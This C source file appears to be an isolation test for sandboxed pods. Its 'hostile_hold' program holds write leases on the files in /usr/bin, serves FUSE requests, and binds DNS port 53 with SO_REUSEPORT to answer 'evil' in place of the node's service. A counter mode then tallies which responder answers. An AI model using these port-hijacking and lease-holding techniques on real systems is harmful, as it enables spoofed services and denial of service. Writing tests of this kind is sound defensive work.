// A FUSE program in the sandbox of a pod that holds leases on programs of others, and a port with a
// service of the node.
//
// hostile_hold SOURCE TARGET ...   the FUSE program
// hostile_hold serve               the service of the node
// hostile_hold ask                 asks the service 40 times, and prints who answered
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <dirent.h>
#include <poll.h>
#include <signal.h>
#include <string.h>
#include <sys/socket.h>

#include "fuse_server.h"

static struct sockaddr_in port = {.sin_family = AF_INET};

static int bound(void) {
  int fd = socket(AF_INET, SOCK_DGRAM, 0), one = 1;
  setsockopt(fd, SOL_SOCKET, SO_REUSEPORT, &one, sizeof one);
  if (bind(fd, (void *)&port, sizeof port)) perror("bind");
  return fd;
}

static void answer_queries(int fd, const char *with) {
  for (;;) {
    char buffer[100];
    struct sockaddr_in from;
    socklen_t length = sizeof from;
    if (recvfrom(fd, buffer, sizeof buffer, 0, (void *)&from, &length) < 0) continue;
    sendto(fd, with, strlen(with), 0, (void *)&from, length);
  }
}

static void ask(void) {
  int good = 0, evil = 0;
  for (int i = 0; i < 40; i++) {
    int fd = socket(AF_INET, SOCK_DGRAM, 0);
    char buffer[100] = "?";
    connect(fd, (void *)&port, sizeof port);
    send(fd, "?", 1, 0);
    struct pollfd wait = {fd, POLLIN, 0};
    if (poll(&wait, 1, 500) == 1 && recv(fd, buffer, sizeof buffer, 0) > 0) {
      if (buffer[0] == 'g') good++;
      if (buffer[0] == 'e') evil++;
    }
    close(fd);
  }
  printf("good %d evil %d\n", good, evil);
}

int main(int argc, char **argv) {
  port.sin_port = htons(53);
  port.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  if (argc == 2 && !strcmp(argv[1], "serve")) answer_queries(bound(), "good");
  if (argc == 2 && !strcmp(argv[1], "silent")) {
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    struct sockaddr_in any = {.sin_family = AF_INET, .sin_port = htons(22)};
    if (bind(fd, (void *)&any, sizeof any) || listen(fd, 1000)) perror("listen");
    for (;;) pause();
  }
  if (argc == 2 && !strcmp(argv[1], "ask")) return ask(), 0;
  if (argc < 3) return 2;
  if (!mounted(argv)) return 1;
  if (fork()) return 0;
  if (!fork()) answer_queries(bound(), "evil");
  signal(SIGIO, SIG_IGN);
  DIR *programs = opendir("/usr/bin");
  for (struct dirent *entry; programs && (entry = readdir(programs));) {
    int fd = openat(dirfd(programs), entry->d_name, O_RDONLY);
    if (fd >= 0 && fcntl(fd, F_SETLEASE, F_WRLCK)) close(fd);
  }
  for (struct fuse_in_header *in; (in = next_request());) answer(in);
}
